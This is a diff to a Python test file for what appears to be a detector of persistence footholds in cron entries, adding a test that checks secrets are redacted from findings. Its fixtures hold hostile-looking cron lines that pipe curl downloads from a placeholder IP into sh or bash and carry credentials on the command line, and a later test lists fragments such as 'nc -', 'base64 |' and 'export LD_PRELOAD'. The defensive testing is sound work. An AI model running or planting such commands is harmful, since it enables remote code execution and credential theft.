@@ -125,6 +125,21 @@ def test_what_jobs_do_everywhere_is_no_sign(line: str) -> None:
     assert list(signs.in_text(line)) == []
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "mysqldump -u root -pS3cretPw db | gzip; exit; curl http://192.0.2.9/x | sh",
+        "PGPASSWORD=S3cretPw curl -u admin:S3cretPw https://192.0.2.9/y | bash",
+        "curl -H 'Authorization: Bearer S3cretPwS3cretPw' http://u:S3cretPw@192.0.2.9/ | sh",
+        "/opt/x --token=S3cretPwS3cretPw0123",
+    ],
+)
+def test_no_part_of_a_secret_is_shown(line: str) -> None:
+    (trace,) = footholds.found([place("cron", line)])
+    assert "S3cret" not in trace.sample
+    assert "Pw" not in trace.sample.replace("PGPASSWORD", "")
+
+
 def test_a_text_made_to_hurt_costs_no_more_than_its_length() -> None:
     began = time.process_time()
     for piece in ("curl ", "base64 |", "socket ", "sh $(", "/a", "eval ", "nc -", "export LD_PRELOAD ", "alias "):
